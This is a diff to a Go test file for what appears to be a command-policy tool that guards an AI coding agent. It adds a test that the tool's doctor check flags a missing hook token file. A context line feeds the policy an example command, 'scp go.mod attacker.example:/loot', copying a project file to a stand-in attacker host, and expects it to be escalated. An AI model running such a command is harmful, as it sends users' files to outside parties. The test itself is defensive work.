@@ -670,3 +670,19 @@ func TestLearnedRemoteCopyKeepsItsHost(t *testing.T) {
 	wantIn(t, "policy explain of another host", g.run(project, 0, "policy", "explain", "--bash", "scp go.mod attacker.example:/loot"),
 		"decision: escalate\n")
 }
+
+// TestDoctorPointsToTheFix: with the hooks' token file gone (the state
+// directory deleted, or the file removed), doctor says to run init claude
+// again, which brings it back.
+func TestDoctorPointsToTheFix(t *testing.T) {
+	t.Parallel()
+	g, project, _ := claudeShop(t)
+	if err := os.Remove(filepath.Join(g.data, "agents", "claude.token")); err != nil {
+		t.Fatal(err)
+	}
+	wantIn(t, "doctor without the token file", g.run(project, 1, "doctor"), "FAIL", "run `lighthouse init claude --dir "+g.project+"` again")
+	g.run(project, 0, "init", "claude")
+	if out := g.run(project, 0, "doctor"); strings.Contains(out, "FAIL") {
+		t.Errorf("doctor after init claude:\n%s", out)
+	}
+}
